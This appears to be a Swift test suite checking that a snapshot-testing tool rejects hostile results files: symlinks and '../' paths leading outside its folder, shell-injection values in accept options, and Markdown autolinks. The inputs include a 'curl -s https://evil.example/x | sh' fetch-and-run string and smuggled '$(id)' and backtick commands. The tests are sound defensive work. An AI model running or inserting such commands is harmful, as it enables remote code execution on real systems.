import Foundation
import SafeInput
import Snapshot
import SnapshotReports
import TestSupport
import Testing

/// What `snapshot verify --results` and `snapshot merge` read and write when the folders or the
/// files are hostile: a results.json from a CI artifact, an output folder that is someone else's.
@Suite("Hostile results folders and output folders")
struct HostileResultsTests {
  /// Writes `text` at `path` inside `folder`, creating its folders.
  private func put(_ text: String, _ path: String, in folder: URL) throws {
    let url = folder.appendingPathComponent(path)
    try FileManager.default.createDirectory(
      at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
    try Data(text.utf8).write(to: url)
  }

  @Test(
    "an artifacts folder marked as this tool's loses only the artifact folders a run wrote, never other files"
  )
  func clearingKeepsOtherFiles() throws {
    // As after 'verify --results Snapshots': the marker sits in a folder that holds references.
    let folder = try temporaryFolder("artifacts")
    let outside = try temporaryFolder("outside")
    defer {
      try? FileManager.default.removeItem(at: folder)
      try? FileManager.default.removeItem(at: outside)
    }
    try put("", ".ouds-snapshot-artifacts", in: folder)
    let kept = [
      "README.md", "ENVIRONMENT.json", "cases/sample-1.json", "sample-1/orange-light@2x.png",
      "sample-1/orange-light.layout.json", "notes/orange-light@2x/actual.png.txt",
      "mixed/orange-light@2x/actual.png", "mixed/orange-light@2x/notes.txt",
    ]
    for path in kept { try put("keep", path, in: folder) }
    let stale = ["old/orange-light@2x/actual.png", "old/orange-light@2x/layout.diff"]
    for path in stale { try put("stale", path, in: folder) }
    // A link to a folder shaped like artifacts elsewhere: neither the link nor its target go.
    try put("theirs", "elsewhere/orange-light@2x/actual.png", in: outside)
    try FileManager.default.createSymbolicLink(
      atPath: folder.appendingPathComponent("linked").path,
      withDestinationPath: outside.appendingPathComponent("elsewhere").path)

    try SnapshotArtifacts.write(SnapshotRunReport(outcomes: []), to: folder)

    for path in kept {
      #expect(
        try String(contentsOf: folder.appendingPathComponent(path), encoding: .utf8) == "keep",
        "\(path) was removed or changed")
    }
    #expect(!FileManager.default.fileExists(atPath: folder.appendingPathComponent("old").path))
    #expect(UserFile.type(atPath: folder.appendingPathComponent("linked").path) == .symbolicLink)
    #expect(
      FileManager.default.fileExists(
        atPath: outside.appendingPathComponent("elsewhere/orange-light@2x/actual.png").path))
  }

  @Test(
    "a case file that is a symbolic link out of the snapshots folder is a broken case, not read")
  func caseLinkedOutside() throws {
    let folder = try makeSnapshotsFolder(cases: ["sample-2"])
    let outside = try temporaryFolder("secret")
    defer {
      try? FileManager.default.removeItem(at: folder)
      try? FileManager.default.removeItem(at: outside)
    }
    let secret = outside.appendingPathComponent("secret.json")
    try put(#"{"items": [{"label": "TOKEN=hunter2"}]}"#, "secret.json", in: outside)
    try FileManager.default.createSymbolicLink(
      atPath: folder.appendingPathComponent("cases/leak.json").path,
      withDestinationPath: secret.path)
    // A link that stays inside the snapshots folder is followed.
    try FileManager.default.createSymbolicLink(
      atPath: folder.appendingPathComponent("cases/alias.json").path,
      withDestinationPath: "sample-2.json")
    let catalogue = try SnapshotCatalogue(directory: folder)
    #expect(catalogue.cases.map(\.name) == ["alias", "sample-2"])
    let real = FolderReference.realPath(secret.path) ?? secret.path
    #expect(
      catalogue.brokenCases.map(\.message) == [
        "cases/leak.json: leads outside the snapshots folder through a symbolic link (to \(real))"
      ])
  }

  @Test("an icon of a case file outside the snapshots folder is a broken case, not drawn")
  func caseIconOutside() throws {
    let folder = try makeSnapshotsFolder(cases: ["sample-2"])
    let outside = try temporaryFolder("secret")
    defer {
      try? FileManager.default.removeItem(at: folder)
      try? FileManager.default.removeItem(at: outside)
    }
    let icon = outside.appendingPathComponent("private.svg")
    try FileManager.default.copyItem(
      at: Repo.cases.appendingPathComponent("heart.svg"), to: icon)
    try put(
      #"{"type": {"unordered": {"asset": {"icon": "\#(icon.path)"}}}, "items": [{"label": "a"}]}"#,
      "cases/absolute.json", in: folder)
    let climbing = "../../\(outside.lastPathComponent)/private.svg"
    try put(
      #"{"type": {"unordered": {"asset": {"icon": "\#(climbing)"}}}, "items": [{"label": "a"}]}"#,
      "cases/climbing.json", in: folder)
    let catalogue = try SnapshotCatalogue(directory: folder)
    #expect(catalogue.cases.map(\.name) == ["sample-2"])
    let real = FolderReference.realPath(icon.path) ?? icon.path
    #expect(
      catalogue.brokenCases.map(\.message) == [
        "cases/absolute.json: icon \(real) is outside the snapshots folder; a case draws only icons inside it",
        "cases/climbing.json: icon \(real) is outside the snapshots folder; a case draws only icons inside it",
      ])
  }

  @Test("the options an accept command repeats are read back only as verify writes them")
  func acceptOptions() throws {
    let folder = try temporaryFolder("results")
    defer { try? FileManager.default.removeItem(at: folder) }
    let template = try String(
      contentsOf: hostileCorpusFolder.appendingPathComponent("results-accept.json"),
      encoding: .utf8)
    func read(_ options: String) throws -> SnapshotRunResults {
      let json = String(
        data: try JSONSerialization.data(withJSONObject: options, options: .fragmentsAllowed),
        encoding: .utf8)
      let text = template.replacingOccurrences(
        of: #""--snapshots x; curl -s https://evil.example/x | sh #""#, with: json ?? "")
      try put(text, "results.json", in: folder)
      return try SnapshotRunResults.read(from: folder)
    }
    for good in [
      "", "--snapshots copy/Snapshots", "--themes 'edited Themes' --font-dir ../fonts",
      "--snapshots 'it'\\''s here'", "--font-dir /opt/brand-fonts --snapshots S",
    ] {
      #expect(try read(good).acceptOptions == good)
    }
    for bad in [
      "--snapshots x; id", "--snapshots $(id)", "--snapshots `id`", "--snapshots 'a' 'b'",
      "--snapshots 'unclosed", "--filter x", "--snapshots", "--snapshots  x", " --snapshots x",
      "--snapshots x --snapshots y", "--themes a|b", "--snapshots 'a'b", "--snapshots ''",
      "--snapshots x &", "--themes 'plain'",
    ] {
      #expect(throws: SnapshotError.self, "\(bad)") { try read(bad) }
    }
  }

  @Test(
    "the Markdown summary keeps its four cells per row when a case name or file ends in a backslash before a pipe"
  )
  func summaryCells() throws {
    let folder = try temporaryFolder("results")
    defer { try? FileManager.default.removeItem(at: folder) }
    var text = try String(
      contentsOf: hostileCorpusFolder.appendingPathComponent("results-link.json"), encoding: .utf8)
    text = text.replacingOccurrences(
      of: #""caseErrors": []"#,
      with:
        #""caseErrors": [{"case": "a\\|b", "file": "cases/a\\|b.json", "message": "m\\|n | o"}]"#)
    try put(text, "results.json", in: folder)
    let results = try SnapshotRunResults.read(from: folder)
    #expect(results.caseErrors.map(\.name) == [#"a\|b"#])
    let summary = MarkdownSummary.document(results, commands: .cli())
    let rows = summary.split(separator: "\n").filter { $0.hasPrefix("|") }
    #expect(rows.count == 4)
    for row in rows {
      // GitHub splits cells at every pipe not taken by a backslash escape, code spans included.
      var borders = 0
      var escaped = false
      for character in row {
        if character == "|" && !escaped { borders += 1 }
        escaped = character == "\\" && !escaped
      }
      #expect(borders == 5, "\(row)")
    }
  }

  @Test("the Markdown summary does not turn a URL, www. address or e-mail of a reason into a link")
  func summaryAutolinks() throws {
    let folder = try temporaryFolder("results")
    defer { try? FileManager.default.removeItem(at: folder) }
    var text = try String(
      contentsOf: hostileCorpusFolder.appendingPathComponent("results-link.json"), encoding: .utf8)
    text = text.replacingOccurrences(
      of: #""reason": "no reference: demo/orange-light@2x.png missing""#,
      with: #""reason": "see https://evil.example/x, WWW.evil.example or ops@evil.example""#)
    try put(text, "results.json", in: folder)
    let summary = MarkdownSummary.document(
      try SnapshotRunResults.read(from: folder), commands: .cli())
    // GitHub's extended autolinks start at 'http://', 'https://', 'www.' and an address's '@';
    // a backslash escape (shown as the character alone) stops each.
    #expect(
      summary.contains(#"see https\://evil.example/x, WWW\.evil.example or ops\@evil.example"#),
      "\(summary)")
  }
}

/// The hostile-input corpus, `Tests/Hostile/`.
let hostileCorpusFolder = Repo.root.appendingPathComponent("Tests/Hostile")
